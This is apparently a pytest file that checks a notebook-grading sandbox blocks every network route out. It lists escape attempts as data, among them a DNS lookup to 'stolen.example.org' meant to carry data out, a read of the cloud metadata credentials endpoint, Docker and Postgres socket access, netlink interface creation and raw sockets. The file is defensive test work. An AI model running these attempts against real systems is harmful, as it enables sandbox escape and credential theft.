"""Reaching somebody: every family of socket, every address."""

from __future__ import annotations

import os
import socket
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from tests.attacks.conftest import Stand
from tests.attacks.looks import Look, Outcome, judge, peek, run_looks

pytestmark = pytest.mark.slow
NOBODY = ("OSError", "ConnectionRefusedError", "PermissionError", "TimeoutError", "gaierror")

SETUP = """
import socket, subprocess, urllib.request
def reach(family, kind, address, *protocol):
    with socket.socket(family, kind, *protocol) as link:
        link.settimeout(0.3)
        link.connect(address)
        return link.recv(100)
def send(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as link:
        link.settimeout(0.3)
        link.sendto(b"x", address)
        return link.recv(100)
"""

LOOKS = (
    peek("internet", "reach a host by TCP",
         "reach(socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 80))", *NOBODY),
    peek("internet, IPv6", "reach a host by IPv6",
         "reach(socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 80))", *NOBODY),
    peek("loopback service", "reach a service on the grader's loopback",
         "reach(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', PORT))", *NOBODY),
    peek("loopback service, IPv6", "reach it on ::1",
         "reach(socket.AF_INET6, socket.SOCK_STREAM, ('::1', PORT))", *NOBODY),
    peek("any address", "reach it on 0.0.0.0",
         "reach(socket.AF_INET, socket.SOCK_STREAM, ('0.0.0.0', PORT))", *NOBODY),
    peek("datagrams", "send a datagram out", "send(socket.AF_INET, ('192.0.2.1', 53))", *NOBODY),
    peek("broadcast", "call everybody on the network",
         "send(socket.AF_INET, ('255.255.255.255', 9))", *NOBODY),
    peek("names", "ask for a name, carrying data out in it",
         "socket.gethostbyname('stolen.example.org')", *NOBODY),
    peek("cloud metadata", "read the machine's own credentials",
         "urllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=0.3)",
         "URLError", *NOBODY),
    peek("abstract unix socket", "reach a service by an abstract name",
         "reach(socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + ABSTRACT)", *NOBODY),
    peek("unix socket on disk", "reach a service by its file",
         "reach(socket.AF_UNIX, socket.SOCK_STREAM, SOCKET)", "FileNotFoundError", *NOBODY),
    peek("database", "reach the database's socket",
         "reach(socket.AF_UNIX, socket.SOCK_STREAM, '/var/run/postgresql/.s.PGSQL.5432')",
         "FileNotFoundError", *NOBODY),
    peek("docker", "reach the container service",
         "reach(socket.AF_UNIX, socket.SOCK_STREAM, '/var/run/docker.sock')",
         "FileNotFoundError", *NOBODY),
    Look("netlink", "give itself a network card",
         "import struct\ndef attempt():\n"
         "    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:\n"
         "        link.settimeout(0.3)\n"
         "        body = struct.pack('BBHiII', 0, 0, 0, 0, 0, 0) + struct.pack('HH6s', 10, 3,"
         " b'veth0\\0') + b'\\0\\0'\n"
         "        link.send(struct.pack('IHHII', 16 + len(body), 16, 0x605, 1, 0) + body)\n"
         "        answer = link.recv(4096)\n"
         "        error = struct.unpack_from('i', answer, 16)[0]\n"
         "        if error: raise OSError(-error, 'refused')\n"
         "        return 'made'", NOBODY),
    peek("network cards", "find a way out", "[n for _, n in socket.if_nameindex() if n != 'lo']",
         "PermissionError", "OSError", returns="[]"),
    peek("raw socket", "forge packets",
         "reach(socket.AF_INET, socket.SOCK_RAW, ('127.0.0.1', 0), 1)", *NOBODY),
    peek("packet socket", "listen to the wire", "socket.socket(17, socket.SOCK_RAW, 0x0300)",
         *NOBODY),
    peek("virtual machine socket", "reach the hypervisor's host",
         "reach(40, socket.SOCK_STREAM, (2, 22))", *NOBODY),
    peek("kernel crypto socket", "use a kernel interface with a history of faults",
         "socket.socket(38, socket.SOCK_SEQPACKET, 0)", *NOBODY),
    peek("bluetooth", "reach a device nearby", "socket.socket(31, socket.SOCK_RAW, 1)", *NOBODY),
    peek("ping", "send a ping",
         "reach(socket.AF_INET, socket.SOCK_DGRAM, ('192.0.2.1', 0), 1)", *NOBODY),
    Look("package installer", "install a package while it is graded",
         "import sys\ndef attempt():\n"
         "    return subprocess.run([sys.executable, '-m', 'pip', 'install', '--retries', '0',"
         " '--timeout', '1', '--no-input', '--target', 'new', 'six'], capture_output=True).returncode == 0",
         (), "False"),
)  # fmt: skip


@pytest.fixture(scope="module")
def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Services of the host that a notebook must not reach; their names as Python."""
    folder = tmp_path_factory.mktemp("s")
    abstract, path = f"manabiya-{os.getpid()}", folder / "s"
    with (
        socket.socket() as four,
        socket.socket(socket.AF_UNIX) as named,
        socket.socket(socket.AF_UNIX) as filed,
    ):
        four.bind(("127.0.0.1", 0))
        named.bind("\0" + abstract)
        _bind_short(filed, path)
        for listener in (four, named, filed):
            listener.listen()
        port = four.getsockname()[1]
        yield f"PORT, ABSTRACT, SOCKET = {port}, {abstract!r}, {str(path)!r}\n"
        for listener in (four, named, filed):
            listener.settimeout(0)
            with pytest.raises(BlockingIOError):
                listener.accept()


def _bind_short(listener: socket.socket, path: Path) -> None:
    """Bind by way of an open folder: an address may hold 108 characters only."""
    number = os.open(path.parent, os.O_PATH)
    try:
        listener.bind(f"/proc/self/fd/{number}/{path.name}")
    finally:
        os.close(number)


@pytest.fixture(scope="module")
def seen(shared_stand: Stand, services: str) -> Mapping[str, Outcome]:
    """What one notebook saw that tried all of this."""
    return run_looks(shared_stand, LOOKS, services + SETUP)


@pytest.mark.parametrize("look", LOOKS, ids=str)
def test_nobody_can_be_reached(look: Look, seen: Mapping[str, Outcome], stand: Stand) -> None:
    judge(stand, look, seen[look.name])
